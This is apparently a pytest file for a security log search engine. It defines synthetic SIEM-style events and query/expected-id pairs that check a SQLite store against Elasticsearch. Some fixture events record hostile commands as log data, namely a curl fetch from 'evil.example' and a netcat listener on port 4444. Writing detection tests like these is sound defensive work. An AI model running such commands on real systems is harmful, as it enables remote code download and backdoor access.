"""The shared query corpus: the same events and queries run on the embedded store (here)
and on Elasticsearch (tests/integration/test_es_search_corpus.py), which must agree.

``CORPUS`` maps a query to the ids it must return (None: only "both backends agree").
"""

from __future__ import annotations

import sqlite3
import time
from pathlib import Path
from typing import Any

import orjson
import pytest

from canhgac.timeutil import from_epoch
from collector.search.model import Scope, SearchRequest
from collector.search.store import StoreBackend
from shipper.outputs.store.service import _row, open_store

# All corpus events lie in [BASE - 3h, BASE]; BASE is fixed per test session.
BASE = (int(time.time()) // 60) * 60 - 120


def ev(eid: str, minutes_ago: float, dataset: str, system: str, unit: str, level: int,
       **fields: Any) -> dict[str, Any]:
    event = {"id": eid, "dataset": dataset, "kind": fields.pop("kind", "event"),
             "module": "canhgac"}
    event.update(fields.pop("event", {}))
    doc: dict[str, Any] = {
        "@timestamp": from_epoch(BASE - minutes_ago * 60),
        "ecs": {"version": "8.11.0"},
        "event": event,
        "canhgac": {"system": {"id": system, "level": level}, "unit": {"name": unit}},
    }
    doc.update(fields)
    return doc


YTE = "Sở Y tế"
TTTT = "Sở Thông tin và Truyền thông"
HD = "UBND Hải Dương"

EVENTS: list[dict[str, Any]] = [
    ev("e01", 1, "auth", "hue-portal", TTTT, 3, event={"action": "ssh_login", "outcome": "failure",
       "category": ["authentication"], "type": ["start"]},
       message="Failed password for root from 10.1.2.3 port 52100 ssh2",
       user={"name": "root"}, source={"ip": "10.1.2.3", "port": 52100}, host={"name": "web-01"}),
    ev("e02", 2, "auth", "hue-portal", TTTT, 3, event={"action": "ssh_login", "outcome": "success",
       "category": ["authentication", "session"]},
       message="Accepted publickey for admin from 192.168.5.20 port 40022 ssh2",
       user={"name": "admin"}, source={"ip": "192.168.5.20", "port": 40022}, host={"name": "web-01"}),
    ev("e03", 3, "auth", "hue-hr", YTE, 2, event={"action": "ssh_login", "outcome": "failure",
       "category": ["authentication"]},
       message="Đăng nhập thất bại cho người dùng Nguyễn Văn A",
       user={"name": "nguyenvana"}, source={"ip": "10.200.0.7", "port": 61000}, host={"name": "hr-db"}),
    ev("e04", 4, "auth", "hd-egov", HD, 1, event={"action": "sudo", "outcome": "success"},
       message="FAILED to open session (uppercase)", user={"name": "deploy"},
       source={"ip": "2001:db8::10", "port": 22}, host={"name": "egov-app"}),
    ev("e05", 5, "process", "hue-portal", TTTT, 3, event={"action": "exec", "type": ["start"]},
       process={"pid": 4242, "name": "curl", "command_line": "curl -s http://evil.example/x.sh",
                "args": ["curl", "-s", "http://evil.example/x.sh"], "exit_code": 0},
       host={"name": "web-01"}, user={"name": "www-data"}),
    ev("e06", 6, "process", "hue-hr", YTE, 2, event={"action": "exec"},
       process={"pid": 1, "name": "systemd", "command_line": "/sbin/init splash"},
       host={"name": "hr-db"}),
    ev("e07", 7, "process", "hd-egov", HD, 1, event={"action": "exit"},
       process={"pid": 31337, "name": "nc", "command_line": "nc -lvp 4444", "exit_code": 1},
       host={"name": "egov-app"}),
    ev("e08", 8, "socket", "hue-portal", TTTT, 3, event={"action": "connect"},
       source={"ip": "10.1.2.3", "port": 443}, destination={"ip": "203.0.113.9", "port": 8443},
       network={"transport": "tcp", "direction": "egress"}, host={"name": "web-01"}),
    ev("e09", 9, "socket", "hue-hr", YTE, 2, event={"action": "listen"},
       source={"ip": "0.0.0.0", "port": 5432}, network={"transport": "tcp"}, host={"name": "hr-db"}),
    ev("e10", 10, "socket", "hd-egov", HD, 1, event={"action": "connect"},
       source={"ip": "fe80::1", "port": 53}, destination={"ip": "fe80::2", "port": 53},
       network={"transport": "udp"}, host={"name": "egov-app"}),
    ev("e11", 11, "host.metrics", "hue-portal", TTTT, 3, kind="metric",
       host={"name": "web-01", "cpu": {"usage": 0.875},
             "network": {"ingress": {"bytes": 1_000_000}, "egress": {"bytes": 25_000}}}),
    ev("e12", 12, "host.metrics", "hue-hr", YTE, 2, kind="metric",
       host={"name": "hr-db", "cpu": {"usage": 0.05},
             "network": {"ingress": {"bytes": 512}, "egress": {"bytes": 0}}}),
    ev("e13", 13, "host.metrics", "hd-egov", HD, 1, kind="metric",
       host={"name": "egov-app", "cpu": {"usage": 0.5}}),
    ev("e14", 14, "alert", "hue-portal", TTTT, 3, kind="alert",
       event={"severity": 73, "action": "rule_match"},
       rule={"id": "cg-ssh-bruteforce", "name": "SSH brute force"},
       message="Tấn công dò mật khẩu SSH từ 10.1.2.3", source={"ip": "10.1.2.3"},
       host={"name": "web-01"}),
    ev("e15", 15, "alert", "hue-hr", YTE, 2, kind="alert", event={"severity": 21},
       rule={"id": "cg-new-listener", "name": "New listening port"},
       message="Cổng mới mở: 5432", host={"name": "hr-db"}),
    ev("e16", 16, "file", "hue-portal", TTTT, 3, event={"action": "modified"},
       file={"path": "/etc/passwd", "name": "passwd", "size": 2301,
             "hash": {"sha256": "ab" * 32}}, host={"name": "web-01"}),
    ev("e17", 17, "file", "hd-egov", HD, 1, event={"action": "created"},
       file={"path": "/srv/up/[evil]*.sh", "name": "[evil]*.sh", "size": 0}, host={"name": "egov-app"}),
    ev("e18", 18, "dns", "hue-hr", YTE, 2, event={"action": "query"},
       dns={"question": {"name": "update.microsoft.com", "type": "A"},
            "resolved_ip": ["13.107.4.50", "13.107.4.52"]},
       host={"name": "hr-db"}),
    ev("e19", 19, "session", "hue-portal", TTTT, 3, event={"action": "login"},
       user={"name": "Trần Thị Bình"}, host={"name": "web-01"},
       labels={"shift": "đêm", "vip": True}),
    ev("e20", 20, "agent.health", "hue-portal", TTTT, 3, kind="state",
       agent={"version": "0.1.0"}, host={"name": "web-01"}),
    ev("e21", 30, "auth", "hue-portal", TTTT, 3, event={"action": "ssh_login", "outcome": "failure"},
       message="Invalid user oracle from 45.33.32.156", user={"name": "oracle"},
       source={"ip": "45.33.32.156", "port": 1024}, host={"name": "web-02"}),
    ev("e22", 90, "auth", "hue-hr", YTE, 2, event={"action": "ssh_login", "outcome": "failure"},
       message="pam_unix(sshd:auth): authentication failure; rhost=10.200.0.8",
       user={"name": "nguyenvana"}, source={"ip": "10.200.0.8", "port": 2222}, host={"name": "hr-db"}),
    ev("e23", 170, "process", "hue-portal", TTTT, 3, event={"action": "exec"},
       process={"pid": 99, "name": "bash", "command_line": "bash -c 'echo \"quoted\"'"},
       host={"name": "web-01"}),
    ev("e24", 0, "raw", "hue-portal", TTTT, 3, message="C:\\Windows\\System32 path? yes*",
       host={"name": "web-01"}),
]

ALL = {e["event"]["id"] for e in EVENTS}

CORPUS: dict[str, set[str] | None] = {
    "": ALL,
    "*": ALL,
    "event.dataset:auth": {"e01", "e02", "e03", "e04", "e21", "e22"},
    "event.dataset:auth AND event.outcome:failure": {"e01", "e03", "e21", "e22"},
    "event.dataset:auth event.outcome:failure": {"e01", "e03", "e21", "e22"},
    "event.dataset:auth && event.outcome:failure": {"e01", "e03", "e21", "e22"},
    "event.dataset:auth AND NOT event.outcome:failure": {"e02", "e04"},
    "event.dataset:auth -event.outcome:failure": {"e02", "e04"},
    "event.dataset:(socket OR dns)": {"e08", "e09", "e10", "e18"},
    "event.dataset:socket OR event.dataset:dns": {"e08", "e09", "e10", "e18"},
    "NOT event.dataset:auth AND NOT event.dataset:process": ALL - {
        "e01", "e02", "e03", "e04", "e21", "e22", "e05", "e06", "e07", "e23"},
    "(event.dataset:auth OR event.dataset:alert) AND source.ip:10.1.2.3": {"e01", "e14"},
    "event.dataset:host.*": {"e11", "e12", "e13"},
    "event.dataset:?ns": {"e18"},
    "host.name:web-0?": {"e01", "e02", "e05", "e08", "e11", "e14", "e16", "e19", "e20", "e21",
                         "e23", "e24"},
    "host.name:WEB-01": set(),
    'user.name:"Trần Thị Bình"': {"e19"},
    "user.name:Trần*": {"e19"},
    "canhgac.unit.name:\"Sở Y tế\"": {"e03", "e06", "e09", "e12", "e15", "e18", "e22"},
    "event.category:session": {"e02"},
    "event.category:authentication": {"e01", "e02", "e03"},
    # free text: contains, ASCII case-insensitive; default field is message
    "failed": {"e01", "e04"},
    "FAILED": {"e01", "e04"},
    "message:failure": {"e22"},
    '"Failed password"': {"e01"},
    '"đăng nhập"': set(),  # Đ vs đ: only ASCII letters fold
    '"Đăng nhập"': {"e03"},
    "message:thất": {"e03"},
    "message:*SSH*": {"e01", "e02", "e14", "e22"},
    "message:pam_unix\\(sshd*": {"e22"},
    "message:accepted*admin": {"e02"},
    "message:\"C:\\\\Windows\"": {"e24"},
    "message:path\\?": {"e24"},
    "message:yes\\*": {"e24"},
    "message:*": {"e01", "e02", "e03", "e04", "e14", "e15", "e21", "e22", "e24"},
    "process.command_line:evil.example": {"e05"},
    "process.command_line:\"echo \\\"quoted\\\"\"": {"e23"},
    # keywords with glob-special characters stay literal
    'file.path:"/srv/up/[evil]*.sh"': {"e17"},
    "file.path:/srv/up/\\[evil\\]\\*.sh": {"e17"},
    "file.path:/srv/up/\\[evil]*": {"e17"},
    "file.path:/etc/*": {"e16"},
    "file.size:0": {"e17"},
    "file.size:>1000": {"e16"},
    # ip / cidr
    "source.ip:10.0.0.0/8": {"e01", "e03", "e08", "e14", "e22"},
    "source.ip:10.1.2.3": {"e01", "e08", "e14"},
    "source.ip:192.168.0.0/16 OR source.ip:2001:db8::/32": {"e02", "e04"},
    "source.ip:fe80::1": {"e10"},
    "source.ip:[10.0.0.0 TO 10.255.255.255]": {"e01", "e03", "e08", "e14", "e22"},
    "source.ip:{10.1.2.3 TO 192.168.5.20]": {"e02", "e03", "e22", "e21"},
    "dns.resolved_ip:13.107.4.52": {"e18"},
    "destination.ip:203.0.113.0/24": {"e08"},
    "NOT source.ip:10.0.0.0/8 AND event.dataset:auth": {"e02", "e04", "e21"},
    # numbers
    "source.port:22": {"e04"},
    "source.port:[1 TO 1024]": {"e04", "e08", "e10", "e21"},
    "source.port:[1 TO 1024}": {"e04", "e08", "e10"},
    "source.port:>=50000": {"e01", "e03"},
    "source.port:<53": {"e04"},
    "source.port:<=53": {"e04", "e10"},
    "source.port:{53 TO *]": {"e01", "e02", "e03", "e08", "e09", "e21", "e22"},
    "host.cpu.usage:>0.5": {"e11"},
    "host.cpu.usage:>=0.5": {"e11", "e13"},
    "host.cpu.usage:0.05": {"e12"},
    "host.network.egress.bytes:0": {"e12"},
    "event.severity:[50 TO 100]": {"e14"},
    "process.pid:1 OR process.pid:31337": {"e06", "e07"},
    "process.exit_code:*": {"e05", "e07"},
    "process.args:-s": {"e05"},
    "canhgac.system.level:>=2": ALL - {"e04", "e07", "e10", "e13", "e17"},
    # existence
    "_exists_:rule.id": {"e14", "e15"},
    "rule.id:*": {"e14", "e15"},
    "NOT _exists_:host.name": set(),
    "destination.port:[* TO *]": {"e08", "e10"},
    # unmapped fields are keywords
    "labels.shift:đêm": {"e19"},
    "labels.vip:true": {"e19"},
    "agent.version:0.1.0": {"e20"},
    "rule.name:SSH*": {"e14"},
    "rule.name:\"SSH brute force\"": {"e14"},
    # keyword ranges compare bytes
    "host.name:[hr TO web]": {"e03", "e06", "e09", "e12", "e15", "e18", "e22"},
    "user.name:>=o": {"e01", "e21", "e05"},
    "event.dataset:auth AND (user.name:root OR user.name:admin) AND NOT host.name:web-02":
        {"e01", "e02"},
}

WINDOW = (from_epoch(BASE - 4 * 3600), from_epoch(BASE + 60))


def time_queries() -> dict[str, set[str]]:
    """Queries on @timestamp, built from BASE (minutes ago -> ids)."""
    t = lambda m: from_epoch(BASE - m * 60)  # noqa: E731
    return {
        f"@timestamp:[{t(5)} TO {t(1)}]": {"e01", "e02", "e03", "e04", "e05"},
        f"@timestamp:{{{t(5)} TO {t(1)}}}": {"e02", "e03", "e04"},
        f"@timestamp:>{t(20)} AND event.dataset:auth": {"e01", "e02", "e03", "e04"},
        f'@timestamp:"{t(3)}"': {"e03"},
        f"@timestamp:<{t(89)}": {"e22", "e23"},
    }


def load_store(path: Path, events: list[dict[str, Any]] = EVENTS) -> None:
    db = open_store(path)
    db.executemany("INSERT OR IGNORE INTO events(id, ts, dataset, kind, system_id, unit, doc) "
                   "VALUES(?,?,?,?,?,?,?)", [_row(orjson.dumps(e)) for e in events])
    db.close()


def request(query: str, **kw: Any) -> SearchRequest:
    return SearchRequest.build(query, start=WINDOW[0], end=WINDOW[1], limit=1000, **kw)


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> StoreBackend:
    path = tmp_path_factory.mktemp("corpus") / "events.db"
    load_store(path)
    return StoreBackend(path)


def ids(backend: StoreBackend, query: str, scope: Scope | None = None) -> set[str]:
    req = request(query)
    res = backend.search_sync(req, req.filter_ast(scope or Scope.everything()))
    assert res.total == len(res.hits)
    return {h["event"]["id"] for h in res.hits}


@pytest.mark.parametrize("query", list(CORPUS))
def test_corpus_on_store(store: StoreBackend, query: str) -> None:
    assert ids(store, query) == CORPUS[query]


def test_time_queries_on_store(store: StoreBackend) -> None:
    for query, expected in time_queries().items():
        assert ids(store, query) == expected, query


def test_store_is_read_only(store: StoreBackend) -> None:
    with pytest.raises(sqlite3.OperationalError):
        store._db().execute("DELETE FROM events")
